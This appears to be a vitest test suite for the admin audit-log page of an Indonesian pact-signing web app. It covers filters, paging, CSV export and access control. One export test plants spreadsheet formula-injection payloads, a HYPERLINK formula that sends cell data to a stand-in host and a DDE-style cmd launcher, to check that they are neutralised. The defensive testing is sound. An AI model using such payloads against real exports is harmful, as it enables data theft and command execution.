import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AuditAction } from '../../src/audit/actions.js';
import { recordEvent } from '../../src/audit/record-event.js';
import { inTransaction } from '../../src/db/database.js';
import { CSV_BOM } from '../../src/web/csv.js';
import { browser, loggedInAdmin, logIn, pageText } from '../helpers/http.js';
import { binaryParser, makePact, pngDataUrl, signaturePng, signThroughForm } from '../helpers/pacts.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

describe('the audit log page', () => {
  let t: TestApp;
  beforeEach(async () => {
    t = await createTestApp();
  });
  afterEach(() => t.close());

  const asAdmin = () => loggedInAdmin(t);

  /** An event as an operation would record it; `note` ends up in the details, to find the row on the page. */
  function event(options: {
    at: string;
    action?: AuditAction;
    userId?: number | null;
    ip?: string | null;
    userAgent?: string | null;
    target?: { type: string; id: number };
    note?: string;
    details?: Record<string, unknown>;
  }): Promise<void> {
    return recordEvent(t.services.audit, {
      actor: {
        userId: options.userId ?? null,
        ip: options.ip === undefined ? '10.1.2.3' : options.ip,
        userAgent: options.userAgent ?? 'Mozilla/5.0 (uji)',
      },
      action: options.action ?? 'login.succeeded',
      ...(options.target ? { target: options.target } : {}),
      details: options.details ?? (options.note ? { note: options.note } : {}),
      at: new Date(options.at),
    });
  }

  /** Table rows on a page, each as the note of its event (its detail 'Catatan: …'), top to bottom. */
  const notesOn = (html: string): string[] =>
    [...html.matchAll(/<li>Catatan: ([\w-]+)<\/li>/g)].map((m) => m[1] as string);
  const rowCount = (html: string): number => html.split('<time datetime="').length - 1;

  it('lists events newest first, in WIB, with the actor (or "Sistem"), label, target, IP and details', async () => {
    const { admin, agent } = await asAdmin();
    const pact = await makePact(t.services, { title: 'Pakta Netralitas Pemilu 2024' });
    await event({ at: '2024-01-10T03:15:00.000Z', note: 'pertama', userId: admin.id, ip: '192.0.2.10' });
    await event({ at: '2024-01-12T03:15:00.000Z', note: 'ketiga', action: 'login.failed', userId: null });
    await event({
      at: '2024-01-11T03:15:00.000Z',
      note: 'kedua',
      action: 'pact.opened',
      userId: admin.id,
      target: { type: 'pact', id: pact.id },
    });

    const res = await agent.get('/admin/audit?dari=2024-01-01&sampai=2024-01-31');
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text).toContain('<h1 class="h3 mb-0">Log audit</h1>');
    expect(notesOn(res.text)).toEqual(['ketiga', 'kedua', 'pertama']);
    expect(res.text).toContain('10 Januari 2024 pukul 10.15 WIB');
    expect(res.text).toContain('Gagal masuk');
    expect(res.text).toContain('Membuka pakta untuk ditandatangani');
    expect(res.text).toContain('Sistem</a>');
    expect(res.text).toContain('Admin Uji</a>');
    // The target by its title, its kind and id beside it, the link narrowing the log to it.
    expect(res.text).toContain(
      `href="/admin/audit?sasaran_jenis=pact&amp;sasaran_id=${pact.id}&amp;dari=2024-01-01&amp;sampai=2024-01-31">Pakta Netralitas Pemilu 2024</a>`,
    );
    expect(res.text).toContain(`>pakta #${pact.id}</span>`);
    expect(res.text).toContain('192.0.2.10');
    // The nav links the page for admins.
    expect(res.text).toContain('href="/admin/audit" aria-current="page"');
    expect(res.text).toContain('href="/admin/pengaturan"');
  });

  it('reads targets and details in words: names for ids, labels for keys and codes, the raw JSON behind a toggle', async () => {
    const { agent } = await asAdmin();
    const budi = await t.make.user({ fullName: 'Budi Santoso' });
    const dinkes = await t.make.unit({ name: 'Dinas Kesehatan' });
    const bkd = await t.make.unit({ name: 'Badan Kepegawaian Daerah' });
    const pact = await makePact(t.services, { title: 'Pakta Netralitas Pemilu 2024' });
    await event({
      at: '2024-01-10T03:15:00.000Z',
      action: 'login.failed',
      target: { type: 'user', id: budi.id },
      details: {
        reason: 'wrong_password',
        units: [dinkes.id, bkd.id],
        pactId: pact.id,
        ledgerSeq: 12,
        lockedUntil: null,
        sent: true,
        unitId: { from: dinkes.id, to: bkd.id },
        expiresAt: '2024-01-11T03:15:00.000Z',
        extra: { a: 1 },
      },
    });
    // Ids that name nothing (any more) keep their kind and id; unknown keys and codes stay as recorded.
    await event({
      at: '2024-01-10T04:15:00.000Z',
      action: 'pact.closed',
      target: { type: 'pact', id: 999 },
      details: { reason: 'Salah ketik pada judul', units: 12 },
    });
    const res = await agent.get('/admin/audit?dari=2024-01-10&sampai=2024-01-10');
    expect(res.status).toBe(200);
    expect(res.text).toContain('>Budi Santoso</a>');
    expect(res.text).toContain(`>pengguna #${budi.id}</span>`);
    const text = pageText(res.text);
    expect(text).toContain('Alasan: kata sandi salah');
    expect(text).toContain('Unit: Dinas Kesehatan, Badan Kepegawaian Daerah');
    expect(text).toContain('Pakta: Pakta Netralitas Pemilu 2024');
    expect(text).toContain('Entri buku besar: 12');
    expect(text).toContain('Terkunci sampai: –');
    expect(text).toContain('Tautan dikirim: ya');
    expect(text).toContain('Unit: Dinas Kesehatan → Badan Kepegawaian Daerah');
    expect(text).toContain('Berlaku sampai: 11 Januari 2024 pukul 10.15 WIB');
    expect(text).toContain('extra: a: 1');
    expect(text).toContain('pakta #999');
    expect(text).toContain('Alasan: Salah ketik pada judul');
    expect(text).toContain('Unit: 12');
    expect(text).not.toMatch(/\b(reason:|pactId:|ledgerSeq:|user #)/);
    // The details as stored, for the technical reader.
    expect(res.text).toContain('<summary>Data mentah (JSON)</summary>');
    expect(res.text).toContain('&#34;reason&#34;:&#34;wrong_password&#34;');
  });

  it("names every one of 50 rows' people and pacts on one page", async () => {
    const { agent } = await asAdmin();
    const pact = await makePact(t.services, { title: 'Pakta Netralitas Pemilu 2024' });
    const people: { id: number }[] = [];
    for (let i = 0; i < 50; i += 1) people.push(await t.make.user({ fullName: `Pegawai Nomor ${i}` }));
    await inTransaction(t.db, async () => {
      for (const [i, person] of people.entries()) {
        await event({
          at: new Date(Date.parse('2024-04-01T00:00:00.000Z') + i * 60_000).toISOString(),
          action: 'exemption.created',
          target: { type: 'user', id: person.id },
          details: { pact: pact.id, reason: 'Cuti melahirkan' },
        });
      }
    });
    const res = await agent.get('/admin/audit?dari=2024-04-01&sampai=2024-04-01');
    expect(rowCount(res.text)).toBe(50);
    for (let i = 0; i < 50; i += 1) expect(res.text).toContain(`>Pegawai Nomor ${i}</a>`);
    expect(pageText(res.text).split('Pakta: Pakta Netralitas Pemilu 2024').length - 1).toBe(50);
  });

  it('credits a login to the person who logged in, not to "Sistem"', async () => {
    const { agent } = await asAdmin();
    const budi = await t.make.user({ fullName: 'Budi Santoso', email: 'budi@uji.test' });
    await logIn(browser(t.app), 'budi@uji.test');
    const res = await agent.get(`/admin/audit?aksi=login.succeeded&pelaku=${budi.id}`);
    expect(rowCount(res.text)).toBe(1);
    expect(res.text).toContain(
      `href="/admin/audit?pelaku=${budi.id}&amp;aksi=login.succeeded">Budi Santoso</a>`,
    );
    const system = await agent.get('/admin/audit?aksi=login.succeeded&pelaku=sistem');
    expect(rowCount(system.text)).toBe(0);
  });

  describe('filters', () => {
    it('narrows to one actor by id, to events without a user ("sistem"), and by a name, email or NIP search', async () => {
      const { agent } = await asAdmin();
      const budi = await t.make.user({
        fullName: 'Budi Santoso',
        email: 'budi@uji.test',
        nip: '198609262015051001',
      });
      const sri = await t.make.user({ fullName: 'Sri Wahyuni', email: 'sri@uji.test' });
      await event({ at: '2024-02-01T01:00:00.000Z', userId: budi.id, note: 'oleh-budi' });
      await event({ at: '2024-02-02T01:00:00.000Z', userId: sri.id, note: 'oleh-sri' });
      await event({ at: '2024-02-03T01:00:00.000Z', userId: null, note: 'oleh-sistem' });
      const range = 'dari=2024-02-01&sampai=2024-02-28';

      const byId = await agent.get(`/admin/audit?${range}&pelaku=${budi.id}`);
      expect(byId.status).toBe(200);
      expect(notesOn(byId.text)).toEqual(['oleh-budi']);
      expect(byId.text).toContain('Pelaku: Budi Santoso');

      expect(notesOn((await agent.get(`/admin/audit?${range}&pelaku=sistem`)).text)).toEqual(['oleh-sistem']);
      expect(notesOn((await agent.get(`/admin/audit?${range}&cari_pelaku=santoso`)).text)).toEqual([
        'oleh-budi',
      ]);
      expect(notesOn((await agent.get(`/admin/audit?${range}&cari_pelaku=sri%40uji`)).text)).toEqual([
        'oleh-sri',
      ]);
      const byNip = await agent.get(
        `/admin/audit?${range}&cari_pelaku=${encodeURIComponent('19860926 201505')}`,
      );
      expect(notesOn(byNip.text)).toEqual(['oleh-budi']);

      const nobody = await agent.get(`/admin/audit?${range}&cari_pelaku=tidak-ada-orang`);
      expect(nobody.status).toBe(200);
      expect(notesOn(nobody.text)).toEqual([]);
      expect(nobody.text).toContain('Tidak ada pengguna yang cocok dengan pencarian ini.');
      expect(nobody.text).toContain('value="tidak-ada-orang"');
    });

    it('shows every match of a search with links to narrow to one, and refuses a search matching a crowd', async () => {
      const { agent } = await asAdmin();
      const a = await t.make.user({ fullName: 'Rina Kusuma' });
      const b = await t.make.user({ fullName: 'Rina Lestari' });
      await event({ at: '2024-02-01T01:00:00.000Z', userId: a.id, note: 'oleh-kusuma' });
      await event({ at: '2024-02-02T01:00:00.000Z', userId: b.id, note: 'oleh-lestari' });
      const both = await agent.get('/admin/audit?dari=2024-02-01&cari_pelaku=Rina');
      expect(notesOn(both.text)).toEqual(['oleh-lestari', 'oleh-kusuma']);
      expect(both.text).toContain('2 pengguna cocok');
      expect(both.text).toContain(`href="/admin/audit?pelaku=${a.id}&amp;dari=2024-02-01">Rina Kusuma</a>`);

      for (let i = 0; i < 21; i += 1) await t.make.user({ fullName: `Pegawai Kembar ${i}` });
      const crowd = await agent.get('/admin/audit?cari_pelaku=Kembar');
      expect(crowd.status).toBe(400);
      expect(crowd.text).toContain('Terlalu banyak pengguna yang cocok');
      expect(crowd.text).toContain('id="cari_pelaku-error"');
      expect(crowd.text).toContain('value="Kembar"');
      expect(rowCount(crowd.text)).toBe(0);
    });

    it('narrows by action and by target', async () => {
      const { agent } = await asAdmin();
      await event({
        at: '2024-03-01T01:00:00.000Z',
        action: 'pact.created',
        target: { type: 'pact', id: 1 },
        note: 'buat-1',
      });
      await event({
        at: '2024-03-02T01:00:00.000Z',
        action: 'pact.opened',
        target: { type: 'pact', id: 1 },
        note: 'buka-1',
      });
      await event({
        at: '2024-03-03T01:00:00.000Z',
        action: 'pact.created',
        target: { type: 'pact', id: 2 },
        note: 'buat-2',
      });
      await event({
        at: '2024-03-04T01:00:00.000Z',
        action: 'logout',
        target: { type: 'user', id: 1 },
        note: 'keluar',
      });
      const range = 'dari=2024-03-01&sampai=2024-03-31';

      const created = await agent.get(`/admin/audit?${range}&aksi=pact.created`);
      expect(notesOn(created.text)).toEqual(['buat-2', 'buat-1']);
      expect(created.text).toContain('<option value="pact.created" selected>Membuat draf pakta</option>');
      expect(
        notesOn((await agent.get(`/admin/audit?${range}&sasaran_jenis=pact&sasaran_id=1`)).text),
      ).toEqual(['buka-1', 'buat-1']);
      expect(notesOn((await agent.get(`/admin/audit?${range}&sasaran_jenis=pact`)).text)).toEqual([
        'buat-2',
        'buka-1',
        'buat-1',
      ]);
      const combined = await agent.get(
        `/admin/audit?${range}&aksi=pact.created&sasaran_jenis=pact&sasaran_id=2`,
      );
      expect(notesOn(combined.text)).toEqual(['buat-2']);
      // Empty fields from the GET form count as not given.
      const blank = await agent.get(
        `/admin/audit?${range}&pelaku=&cari_pelaku=&aksi=&sasaran_jenis=&sasaran_id=`,
      );
      expect(notesOn(blank.text)).toEqual(['keluar', 'buat-2', 'buka-1', 'buat-1']);
    });

    it('reads the date range as whole days in WIB (UTC+7)', async () => {
      const { agent } = await asAdmin();
      await event({ at: '2024-01-15T16:59:59.999Z', note: 'tgl15-akhir' }); // 15 Jan 23:59:59 WIB
      await event({ at: '2024-01-15T17:00:00.000Z', note: 'tgl16-awal' }); // 16 Jan 00:00 WIB
      await event({ at: '2024-01-16T16:59:59.999Z', note: 'tgl16-akhir' }); // 16 Jan 23:59:59 WIB
      await event({ at: '2024-01-16T17:00:00.000Z', note: 'tgl17-awal' }); // 17 Jan 00:00 WIB

      const oneDay = await agent.get('/admin/audit?dari=2024-01-16&sampai=2024-01-16');
      expect(notesOn(oneDay.text)).toEqual(['tgl16-akhir', 'tgl16-awal']);
      expect(oneDay.text).toContain('value="2024-01-16"');
      expect(notesOn((await agent.get('/admin/audit?sampai=2024-01-15')).text)).toEqual(['tgl15-akhir']);
      const from17 = notesOn((await agent.get('/admin/audit?dari=2024-01-17')).text);
      expect(from17).toContain('tgl17-awal');
      expect(from17).not.toContain('tgl16-akhir');
    });

    it.each([
      ['dari=2024-02-31', 'dari', 'Isi tanggal yang sah (TTTT-BB-HH).', '2024-02-31'],
      ['sampai=16-01-2024', 'sampai', 'Isi tanggal yang sah (TTTT-BB-HH).', '16-01-2024'],
      [
        'dari=2024-01-20&sampai=2024-01-10',
        'sampai',
        'Tanggal akhir tidak boleh sebelum tanggal awal.',
        '2024-01-10',
      ],
      ['aksi=pact.deleted', 'aksi', 'Pilih kegiatan dari daftar.', null],
      ['aksi=login.failed&aksi=logout', 'aksi', 'Isian tidak sah.', null],
      ['pelaku=12abc', 'pelaku', 'ID pelaku harus berupa angka ID pengguna', '12abc'],
      ['pelaku=007', 'pelaku', 'ID pelaku harus berupa angka ID pengguna', '007'],
      ['sasaran_jenis=pact&sasaran_id=1e3', 'sasaran_id', 'ID sasaran harus berupa angka.', '1e3'],
      ['sasaran_id=5', 'sasaran_jenis', 'Isi jenis sasaran untuk mencari menurut ID sasaran.', null],
      ['sasaran_jenis=Pact%3B', 'sasaran_jenis', 'Jenis sasaran hanya boleh berisi huruf kecil', 'Pact;'],
      ['cari_pelaku=ab', 'cari_pelaku', 'Ketik minimal 3 karakter', 'ab'],
      ['cari_pelaku=a%00bc', 'cari_pelaku', 'karakter yang tidak sah', null],
      ['halaman=0', 'halaman', 'Nomor halaman tidak sah.', null],
      ['halaman=-1', 'halaman', 'Nomor halaman tidak sah.', null],
      ['format=xlsx', 'format', 'Format ekspor tidak dikenal.', null],
    ])(
      'refuses %s with 400, a message beside the field and the input kept',
      async (query, field, message, kept) => {
        const { agent } = await asAdmin();
        await event({ at: '2024-01-15T03:00:00.000Z', note: 'tidak-tampil' });
        const res = await agent.get(`/admin/audit?${query}`);
        expect(res.status).toBe(400);
        expect(res.text).toContain(message);
        expect(res.text).toContain(`href="#${field}"`);
        if (kept !== null) expect(res.text).toContain(`value="${kept}"`);
        expect(rowCount(res.text)).toBe(0);
        expect(res.text).not.toContain('Unduh CSV');
      },
    );

    it('answers a bad export request with the same 400 page, not a file', async () => {
      const { agent } = await asAdmin();
      const res = await agent.get('/admin/audit?format=csv&dari=2024-13-01');
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      expect(res.headers['content-disposition']).toBeUndefined();
    });
  });

  it('pages 50 events at a time, newest first, keeping the filter in the links', async () => {
    const { agent } = await asAdmin();
    const start = Date.parse('2024-05-01T00:00:00.000Z');
    await inTransaction(t.db, async () => {
      for (let i = 0; i < 120; i += 1)
        await event({ at: new Date(start + i * 60_000).toISOString(), note: `e${i}` });
    });
    const range = 'dari=2024-05-01&sampai=2024-05-31';
    const first = await agent.get(`/admin/audit?${range}`);
    expect(rowCount(first.text)).toBe(50);
    expect(notesOn(first.text)[0]).toBe('e119');
    expect(notesOn(first.text)[49]).toBe('e70');
    expect(first.text).toContain('Halaman 1');
    expect(first.text).toContain(
      'href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31&amp;halaman=2" rel="next"',
    );
    expect(first.text).not.toContain('rel="prev"');

    const second = await agent.get(`/admin/audit?${range}&halaman=2`);
    expect(notesOn(second.text)[0]).toBe('e69');
    expect(second.text).toContain('href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31" rel="prev"');

    const third = await agent.get(`/admin/audit?${range}&halaman=3`);
    expect(notesOn(third.text)).toEqual(Array.from({ length: 20 }, (_, i) => `e${19 - i}`));
    expect(third.text).toContain(
      'href="/admin/audit?dari=2024-05-01&amp;sampai=2024-05-31&amp;halaman=2" rel="prev"',
    );
    expect(third.text).not.toContain('rel="next"');

    const beyond = await agent.get(`/admin/audit?${range}&halaman=9`);
    expect(beyond.status).toBe(200);
    expect(beyond.text).toContain('Tidak ada kegiatan yang cocok dengan saringan ini.');
  });

  describe('CSV export', () => {
    const csvOf = async (agent: ReturnType<typeof browser>, query: string) => {
      const res = await agent.get(`/admin/audit?${query}`).buffer(true).parse(binaryParser);
      return { res, text: (res.body as Buffer).toString('utf8') };
    };

    it('sends the filtered events as an attachment: UTF-8 with a BOM, a header, one row per event', async () => {
      const { admin, agent } = await asAdmin();
      const pact = await makePact(t.services, { title: 'Pakta Netralitas Pemilu 2024' });
      await event({
        at: '2024-01-15T03:15:00.000Z',
        userId: admin.id,
        action: 'pact.opened',
        target: { type: 'pact', id: pact.id },
        details: { title: 'Pakta; "Netralitas" 2024' },
      });
      await event({
        at: '2024-01-16T03:15:00.000Z',
        userId: null,
        ip: null,
        action: 'login.failed',
        note: 'sistem',
      });
      await event({ at: '2023-12-01T03:15:00.000Z', note: 'di-luar-rentang' });

      const { res, text } = await csvOf(agent, 'format=csv&dari=2024-01-01&sampai=2024-01-31');
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(
        /^attachment; filename="log-audit-\d{8}-\d{4}\.csv"$/,
      );
      expect(res.headers['cache-control']).toBe('no-store');
      expect(text.startsWith(CSV_BOM)).toBe(true);
      const lines = text.slice(1).split('\r\n');
      expect(lines.at(-1)).toBe('');
      expect(lines.slice(0, -1)).toEqual([
        'Waktu (WIB);Waktu (UTC);ID pelaku;Pelaku;Kode kegiatan;Kegiatan;Jenis sasaran;ID sasaran;Sasaran;Alamat IP;Peramban;Rincian (teks);Rincian',
        '2024-01-16 10:15:00;2024-01-16T03:15:00.000Z;;Sistem;login.failed;Gagal masuk;;;;;Mozilla/5.0 (uji);Catatan: sistem;"{""note"":""sistem""}"',
        `2024-01-15 10:15:00;2024-01-15T03:15:00.000Z;${admin.id};Admin Uji;pact.opened;Membuka pakta untuk ditandatangani;pact;${pact.id};Pakta Netralitas Pemilu 2024;10.1.2.3;Mozilla/5.0 (uji);"Judul: Pakta; ""Netralitas"" 2024";"{""title"":""Pakta; \\""Netralitas\\"" 2024""}"`,
      ]);
    });

    it('neutralises cells that a spreadsheet would run as a formula', async () => {
      const { agent } = await asAdmin();
      const attacker = await t.make.user({ fullName: '=HYPERLINK("http://jahat.test/?d="&A1,"Klik")' });
      await event({
        at: '2024-01-15T03:15:00.000Z',
        userId: attacker.id,
        userAgent: '@SUM(1+1)*cmd|" /C calc"!A0',
        note: 'x',
      });
      const { text } = await csvOf(agent, 'format=csv&dari=2024-01-15&sampai=2024-01-15');
      const row = text.split('\r\n')[1] as string;
      expect(row).toContain(`;"'=HYPERLINK(""http://jahat.test/?d=""&A1,""Klik"")";`);
      expect(row).toContain(`;"'@SUM(1+1)*cmd|"" /C calc""!A0";`);
      expect(text).not.toMatch(/(^|;|\r\n)"?[=+\-@]/);
    });

    it('exports every event across its chunks, even events sharing a time, once each', async () => {
      const { agent } = await asAdmin();
      const at = Date.parse('2024-06-01T00:00:00.000Z');
      await inTransaction(t.db, async () => {
        // 4 500 events over 900 distinct times: the export's chunks (2 000) end in the middle of a shared time.
        for (let i = 0; i < 4500; i += 1) {
          await event({
            at: new Date(at + Math.floor(i / 5) * 1000).toISOString(),
            action: 'logout',
            note: `n${i}`,
          });
        }
      });
      const { text } = await csvOf(agent, 'format=csv&aksi=logout&dari=2024-06-01&sampai=2024-06-01');
      const notes = [...text.matchAll(/""note"":""(n\d+)""/g)].map((m) => m[1]);
      expect(notes).toHaveLength(4500);
      expect(new Set(notes).size).toBe(4500);
      expect(notes[0]).toBe('n4499');
      expect(notes.at(-1)).toBe('n0');
    });
  });

  describe('personal data (DOMAIN.md: signatures and people lists are audited)', () => {
    const fileOf = (agent: ReturnType<typeof browser>, url: string) =>
      agent.get(url).buffer(true).parse(binaryParser);

    it("records an admin looking at someone's drawn signature, on the receipt page and in its PDF, but not its signer", async () => {
      const { admin, agent } = await asAdmin();
      const unit = await t.make.unit({ name: 'Badan Kepegawaian Daerah' });
      const rinaUser = await t.make.user({
        email: 'rina@uji.test',
        fullName: 'Rina Handayani',
        unitId: unit.id,
      });
      const agusUser = await t.make.user({
        email: 'agus@uji.test',
        fullName: 'Agus Pranoto',
        unitId: unit.id,
      });
      const pact = await makePact(t.services, { title: 'Pakta Netralitas BKD' });
      const rina = browser(t.app);
      await logIn(rina, 'rina@uji.test');
      await signThroughForm(rina, pact.id, {
        consent: '1',
        full_name: 'Rina Handayani',
        signature: pngDataUrl(signaturePng()),
      });
      // Agus signs without drawing: there is no drawing to look at.
      const agus = browser(t.app);
      await logIn(agus, 'agus@uji.test');
      await signThroughForm(agus, pact.id, { consent: '1', full_name: 'Agus Pranoto' });
      const [drawn] = await t.services.signatures.forUser(rinaUser.id);
      const [typed] = await t.services.signatures.forUser(agusUser.id);
      const viewed = () =>
        t.services.audit.search({ action: 'signature.image_viewed' }, { limit: 10, offset: 0 });

      expect((await rina.get(`/tanda-terima/${drawn?.receiptCode}`)).status).toBe(200);
      expect((await agent.get(`/tanda-terima/${typed?.receiptCode}`)).status).toBe(200);
      expect(await viewed()).toEqual([]);

      expect((await agent.get(`/tanda-terima/${drawn?.receiptCode}`)).status).toBe(200);
      expect((await fileOf(agent, `/tanda-terima/${drawn?.receiptCode}.pdf`)).status).toBe(200);
      const events = await viewed();
      expect(events.map((e) => [e.actorUserId, e.targetId, e.details.format])).toEqual([
        [admin.id, String(drawn?.id), 'pdf'],
        [admin.id, String(drawn?.id), 'page'],
      ]);
      const log = pageText((await agent.get('/admin/audit?aksi=signature.image_viewed')).text);
      expect(log).toContain('Melihat gambar tanda tangan orang lain');
      expect(log).toContain(`Tanda tangan Rina Handayani tanda tangan #${drawn?.id} · Pakta Netralitas BKD`);
      expect(log).toContain('Bentuk: halaman tanda terima');
    });

    it("records an export that lists people (one unit's people, the workbook), not the unit table alone", async () => {
      const { admin, agent } = await asAdmin();
      const dinkes = await t.make.unit({ name: 'Dinas Kesehatan', code: 'DINKES' });
      await t.make.user({ unitId: dinkes.id });
      const pact = await makePact(t.services, { title: 'Pakta Netralitas Uji' });
      const exported = () =>
        t.services.audit.search({ action: 'report.people_exported' }, { limit: 10, offset: 0 });

      expect((await fileOf(agent, `/admin/kepatuhan/${pact.id}?format=csv`)).status).toBe(200);
      expect((await fileOf(agent, `/admin/kepatuhan/${pact.id}?format=pdf`)).status).toBe(200);
      expect(await exported()).toEqual([]);

      expect((await fileOf(agent, `/admin/kepatuhan/${pact.id}/unit/${dinkes.id}?format=csv`)).status).toBe(
        200,
      );
      expect((await fileOf(agent, `/admin/kepatuhan/${pact.id}?format=xlsx`)).status).toBe(200);
      const events = await exported();
      expect(events.map((e) => [e.actorUserId, e.targetId, e.details.format, e.details.unitId])).toEqual([
        [admin.id, String(pact.id), 'xlsx', null],
        [admin.id, String(pact.id), 'csv', dinkes.id],
      ]);
      const log = pageText((await agent.get('/admin/audit?aksi=report.people_exported')).text);
      expect(log).toContain('Mengekspor data pribadi dari laporan kepatuhan');
      expect(log).toContain('Bentuk: CSV');
      expect(log).toContain('Unit: Dinas Kesehatan');
    });
  });

  describe('access', () => {
    it.each(['operator', 'signer'] as const)('refuses a %s with 403, page and export alike', async (role) => {
      await t.make.user({ role, email: `${role}@uji.test` });
      const agent = browser(t.app);
      await logIn(agent, `${role}@uji.test`);
      for (const path of ['/admin/audit', '/admin/audit?format=csv']) {
        const res = await agent.get(path);
        expect(res.status).toBe(403);
        expect(res.text).toContain('Akses ditolak');
        expect(res.headers['content-disposition']).toBeUndefined();
      }
    });

    it('sends a visitor who is not logged in to the login page', async () => {
      const res = await browser(t.app).get('/admin/audit?format=csv');
      expect(res.status).toBe(302);
      expect(res.headers.location).toBe('/masuk?next=%2Fadmin%2Faudit%3Fformat%3Dcsv');
    });
  });
});
